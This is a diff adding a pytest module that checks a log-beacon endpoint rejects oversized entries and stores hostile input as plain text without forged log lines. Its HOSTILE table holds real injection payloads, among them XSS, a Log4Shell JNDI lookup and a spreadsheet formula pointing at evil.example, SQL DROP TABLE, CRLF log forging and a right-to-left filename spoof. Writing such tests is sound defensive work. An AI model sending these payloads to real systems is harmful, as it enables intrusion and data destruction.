@@ -1,0 +1,57 @@
+"""Hostile beacons: too large ones, and texts that try to act where they are shown."""
+
+import json
+import logging
+from pathlib import Path
+from urllib.parse import urlencode
+
+import pytest
+from starlette.testclient import TestClient
+
+from tests.log.conftest import beacon, flushed
+
+HOSTILE = {
+    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "formula": '=HYPERLINK("http://evil.example","click")',
+    "lookup": "${jndi:ldap://evil.example/a}",
+    "ansi": "\x1b[31mred\x1b]0;title\x07",
+    "newlines": "one\r\nERROR forged line\nthree",
+    "template": "{{7*7}} %s %n {0}",
+    "sql": "'; DROP TABLE log_entries; --",
+    "nul": "a\x00b",
+    "direction": "\u202egnp.exe",
+}
+
+
+def test_an_entry_has_at_most_64_kib(site: TestClient) -> None:
+    assert beacon(site, b"code=" + b"x" * 65_531) == 200
+    assert beacon(site, b"code=" + b"x" * 65_532) == 413
+
+
+@pytest.mark.parametrize("title", HOSTILE)
+def test_hostile_texts_are_kept_as_text_in_every_field(site: TestClient, kept: Path, title: str) -> None:
+    names = ("level", "code", "name", "message", "stack", "step", "wallet", "method", "duration_ms", "flow", "other")
+    text = HOSTILE[title]
+    for body in (urlencode(dict.fromkeys(names, text)).encode(), json.dumps(dict.fromkeys(names, text)).encode()):
+        assert beacon(site, body) == 200
+    for row in flushed(site, kept):
+        said = json.loads(row.pop("error"))
+        for field in (*said.values(), *(value for value in row.values() if isinstance(value, str))):
+            assert not any(ord(sign) < 32 and sign != "\n" for sign in field)
+            assert "\u202e" not in field
+        assert "\n" not in said["message"] + said["name"] + said["other"]
+        assert (row["level"], row["step"], row["wallet"], row["method"], row["flow"]) == ("error", "", "", "", "")
+        assert row["duration_ms"] is None
+        if title in {"script", "formula", "template", "sql"}:
+            assert said["message"] == text
+
+
+def test_lines_of_the_servers_own_log_cannot_be_forged(site: TestClient, caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level("DEBUG")
+    for text in HOSTILE.values():
+        assert beacon(site, urlencode({"code": text, "message": text}).encode()) == 200
+    # SQLite's driver tells what it is given where somebody asks it to; nobody else may.
+    logging.getLogger("kisslock.log").debug("heard")
+    said = [record.getMessage() for record in caplog.records if record.name != "aiosqlite"]
+    assert "heard" in said
+    assert not [line for line in said if "forged" in line or "jndi" in line]
